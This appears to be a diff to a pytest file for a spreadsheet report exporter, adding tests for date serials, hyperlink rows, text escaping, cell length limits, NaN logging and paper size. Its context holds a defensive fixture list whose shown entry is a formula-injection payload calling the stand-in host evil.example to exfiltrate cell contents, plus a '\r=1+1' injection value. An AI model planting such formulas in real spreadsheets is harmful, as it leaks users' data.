@@ -4,8 +4,10 @@ from __future__ import annotations
 
 import dataclasses
 import io
+import logging
 import re
 import zipfile
+from datetime import date, datetime
 from typing import Any
 
 import pytest
@@ -14,7 +16,8 @@ from openpyxl import load_workbook
 
 from qbr.report import workbook_bytes
 from qbr.report.pdf import formatters_for
-from qbr.report.xlsx_cells import MAX_CELL_CHARS, clean_cell_text
+from qbr.report.xlsx_cells import MAX_CELL_CHARS, clean_cell_text, utf16_len
+from qbr.report.xlsx_sheet import Book, Column, Sheet, excel_serial
 
 PAYLOADS = [
     '=HYPERLINK("http://evil.example/?x="&A1,"Klick")',
@@ -132,7 +135,9 @@ def test_sheets_are_frozen_and_filtered() -> None:
     assert re.fullmatch(r"A1:V\d+", ws.auto_filter.ref or "")  # 16 + 6 SPEC §3a columns
     # prints: landscape, one page wide, header row repeated, footer with client + quarter
     assert ws.page_setup.orientation == "landscape"
-    assert ws.page_setup.fitToWidth == 1 and ws.page_setup.fitToHeight == 0
+    # one page wide: fitToWidth 1 is the schema default (ECMA-376 §18.3.1.63), which the
+    # writer leaves out, so openpyxl reads None; Excel and LibreOffice read 1
+    assert ws.page_setup.fitToWidth in (1, None) and ws.page_setup.fitToHeight == 0
     assert ws.sheet_properties.pageSetUpPr.fitToPage
     assert ws.print_title_rows == "$1:$1"
     assert ws.oddFooter.left.text == "ACME GmbH · Q3 2026"
@@ -145,3 +150,73 @@ def test_illegal_characters_and_long_text() -> None:
     pack = make_pack(tickets=(dataclasses.replace(make_tickets()[0], title="bad\x0b\x00"),))
     wb = load_workbook(io.BytesIO(_xlsx(pack)))
     assert _column(wb["Tickets"], "Title")[0].value == "bad\ufffd\ufffd"
+
+
+# ------------------------------------------------ the streaming writer (issue 7 §5)
+
+
+def test_excel_serial_is_hand_worked() -> None:
+    # 2025-01-01 is Excel day 45,658; 2025 has 365 days → 2026-01-01 = 46,023; Jan 31 +
+    # Feb 28 + Mar 31 + Apr 30 + May 31 + Jun 30 = 181 days → 2026-07-01 = 46,204; 18:00
+    # is 0.75 of a day.
+    assert excel_serial(datetime(2026, 7, 1, 18, 0)) == 46_204.75
+    assert excel_serial(date(2026, 7, 1)) == 46_204
+    # Excel counts a 29 February 1900: 28 Feb 1900 is day 59, 1 March 1900 day 61.
+    assert excel_serial(date(1900, 2, 28)) == 59 and excel_serial(date(1900, 3, 1)) == 61
+
+
+def test_link_rows_and_streamed_rows_interleave_in_order() -> None:
+    """Rows with a hyperlink go through XlsxWriter's API, the others are streamed as XML:
+    every row must come back in order, with the link only on its own cell."""
+    good = "https://psa.example.de/ticket/"
+    base = make_tickets()
+    tickets = tuple(dataclasses.replace(t, ticket_id=f"T{i:02d}" if i != 3 else "\r=1+1",
+                                        url=f"{good}{i}" if i % 3 == 0 else None)
+                    for i, t in enumerate(base))
+    pack = make_pack(tickets=tickets, link_hosts=("psa.example.de",))
+    wb = load_workbook(io.BytesIO(_xlsx(pack)))
+    ws = wb["Tickets"]
+    ids = [c.value for c in _column(ws, "Ticket")]
+    expected = sorted(tickets, key=lambda t: (t.created_at, t.system, t.ticket_id))
+    assert ids == [t.ticket_id for t in expected]
+    assert [c.value for c in _column(ws, "Title")] == [t.title for t in expected]
+    links = {c.value: c.hyperlink.target for c in _column(ws, "Ticket") if c.hyperlink}
+    assert links == {t.ticket_id: t.url for t in expected if t.url}
+    assert _column(ws, "Ticket")[[t.ticket_id for t in expected].index("\r=1+1")].quotePrefix
+    assert ws.max_row == len(tickets) + 1
+
+
+def test_literal_excel_escape_in_text_is_not_decoded() -> None:
+    # Excel reads "_x0041_" in a cell as "A"; written as "_x005F_x0041_" it shows as typed.
+    pack = make_pack(tickets=(dataclasses.replace(make_tickets()[0], title="see _x0041_"),))
+    with zipfile.ZipFile(io.BytesIO(_xlsx(pack))) as z:
+        xml = z.read("xl/worksheets/sheet2.xml").decode("utf-8")
+    assert "see _x005F_x0041_" in xml
+
+
+def test_text_is_cut_at_excels_limit_in_utf16_units() -> None:
+    # An emoji is two UTF-16 units: 20,000 of them are 40,000 units > 32,767.
+    text = clean_cell_text("😀" * 20_000)
+    assert utf16_len(text) <= MAX_CELL_CHARS and text.endswith("]")
+
+
+def test_a_number_that_is_not_finite_leaves_the_cell_empty_and_is_logged(
+        caplog: pytest.LogCaptureFixture) -> None:
+    buffer = io.BytesIO()
+    book = Book(buffer)
+    sheet = Sheet(book, "Data", "ACME · Q3 2026", "#123456", [Column("a", 10, "0.0%")])
+    with caplog.at_level(logging.WARNING, logger="qbr.report"):
+        sheet.line([float("nan")], where="ticket T-1")
+        sheet.line([0.5])
+    book.close()
+    ws = load_workbook(io.BytesIO(buffer.getvalue()))["Data"]
+    assert ws["A1"].value is None and ws["A2"].value == 0.5
+    assert "Data ticket T-1 column 1" in caplog.text
+
+
+def test_paper_follows_the_pack() -> None:
+    # Excel's paperSize codes: 1 = Letter, 9 = A4 (issue 7 §3: Letter for en_US, en_CA).
+    for paper, code in (("Letter", 1), ("A4", 9)):
+        wb = load_workbook(io.BytesIO(_xlsx(make_pack(paper=paper))))
+        assert {ws.page_setup.paperSize for ws in wb.worksheets} == {code}, paper
+        assert not wb["Tickets"].print_options.gridLines  # gridlines are not printed
